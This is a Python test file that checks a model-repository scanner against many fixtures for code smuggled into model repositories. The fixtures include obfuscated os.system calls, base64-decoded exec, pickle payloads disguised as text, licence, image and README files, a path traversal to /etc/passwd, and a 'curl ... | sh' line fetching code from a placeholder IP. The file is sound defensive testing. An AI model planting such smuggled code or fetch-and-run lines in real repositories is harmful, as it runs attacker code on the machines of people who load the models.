"""Repositories whose parts together run code, as the classes that are published; each built as a folder, and none ever loaded.

Classes: code beside weights (`auto_map`, handlers, pipelines), a pickle beside good safetensors, hidden files in pictures and
cards, custom modules of sentence-transformers and MLflow. Success rate of the attacks: 0 of those below.
"""

import base64
import json
from pathlib import Path

import pytest

from fastness.models.scan import Outcome
from tests.unit.models.scan.artifacts import EVIL
from tests.unit.models.scan.test_repositories import BERT, WEIGHTS, all_rules, scan_files, worst
from tests.unit.models.scan.test_texts import PNG

BAD = "import os\nos.system('true')\n"
LATER = "import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        exec('x')\n"
FLAVOR = "flavors:\n  python_function:\n    loader_module: {}\n    code: code\n"
ATTACKS: dict[str, tuple[dict[str, bytes | str], Outcome]] = {
    "auto_map and its module": ({"config.json": json.dumps({"auto_map": {"AutoModel": "modeling_x.X"}}), "modeling_x.py": BAD}, Outcome.BLOCK),
    "a handler": ({"handler.py": LATER}, Outcome.REVIEW),
    "a handler that runs at once": ({"handler.py": BAD}, Outcome.BLOCK),
    "a pipeline": ({"model_index.json": '{"_class_name": ["pipeline", "P"]}', "pipeline.py": BAD}, Outcome.BLOCK),
    "custom generation": ({"custom_generate/generate.py": BAD}, Outcome.BLOCK),
    "a setup": ({"setup.py": BAD}, Outcome.BLOCK),
    "source that hides its names": ({"modeling_x.py": "getattr(__import__('o' + 's'), 'sys' + 'tem')('true')\n"}, Outcome.BLOCK),
    "source that decodes itself": ({"modeling_x.py": "import base64\nexec(base64.b64decode('cGFzcw=='))\n"}, Outcome.BLOCK),
    "source that cannot be parsed": ({"modeling_x.py": "exec 'x'\n"}, Outcome.REVIEW),
    "a script": ({"install.sh": "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n"}, Outcome.BLOCK),
    "a pickle beside good weights": ({"optimizer.pt": EVIL}, Outcome.BLOCK),
    "a pickle called text": ({"vocab.txt": EVIL}, Outcome.BLOCK),
    "a pickle called a picture": ({"logo.png": EVIL}, Outcome.BLOCK),
    "a pickle of letters called text": ({"vocab.txt": b"cos\nsystem\n(S'true'\ntR."}, Outcome.BLOCK),
    "a pickle of letters called a licence": ({"LICENSE": b"cos\nsystem\n(S'true'\ntR."}, Outcome.BLOCK),
    "a pickle in a card": ({"README.md": f"<!-- {base64.b64encode(EVIL + bytes(60)).decode()} -->"}, Outcome.BLOCK),
    "a pickle behind a picture": ({"logo.png": PNG + EVIL}, Outcome.BLOCK),
    "an archive behind a picture": ({"logo.png": PNG + b"PK\x03\x04" + bytes(60)}, Outcome.INCOMPLETE),
    "MLflow's loader": ({"MLmodel": FLAVOR.format("evil"), "code/evil.py": BAD}, Outcome.BLOCK),
    "MLflow's loader, in its function": (
        {"MLmodel": FLAVOR.format("evil"), "code/evil.py": "import os\ndef _load_pyfunc(p):\n    os.system('true')\n"}, Outcome.BLOCK,
    ),
    "MLflow's loader in a package": ({"MLmodel": FLAVOR.format("pkg.evil"), "code/pkg/__init__.py": b"", "code/pkg/evil.py": BAD}, Outcome.BLOCK),
    "MLflow's code beside a good flavor": ({"MLmodel": FLAVOR.format("mlflow.sklearn"), "code/tests/x.py": "x = 1\n"}, Outcome.REVIEW),
    "MLflow's pickle": (
        {"MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: m.pkl\n", "m.pkl": EVIL}, Outcome.BLOCK,
    ),
    "MLflow's pickle elsewhere": (
        {"MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: ../../m.pkl\n"}, Outcome.BLOCK,
    ),
    "MLflow's pickle is missing": (
        {"MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: m.pkl\n"}, Outcome.REVIEW,
    ),
    "MLflow's code from a file": (
        {"MLmodel": "flavors:\n  langchain:\n    model_code_path: chain.py\n", "chain.py": "import os\ndef f():\n    os.system('true')\n"}, Outcome.BLOCK,
    ),
    "NeMo's artifact elsewhere": ({"model_config.yaml": "tokenizer:\n  model_path: nemo:../../etc/passwd\n"}, Outcome.BLOCK),
    "NeMo's artifact is missing": ({"model_config.yaml": "tokenizer:\n  model_path: nemo:abc_tokenizer.model\n"}, Outcome.REVIEW),
}  # fmt: skip


@pytest.mark.parametrize(("files", "outcome"), ATTACKS.values(), ids=ATTACKS)
def test_a_repository_is_as_bad_as_its_worst_part(
    tmp_path: Path, files: dict[str, bytes | str], outcome: Outcome
) -> None:
    reports = scan_files(tmp_path, {"config.json": BERT, "model.safetensors": WEIGHTS, **files})
    assert worst(reports) is outcome, [report.verdict.findings for report in reports]
    assert all_rules(reports)
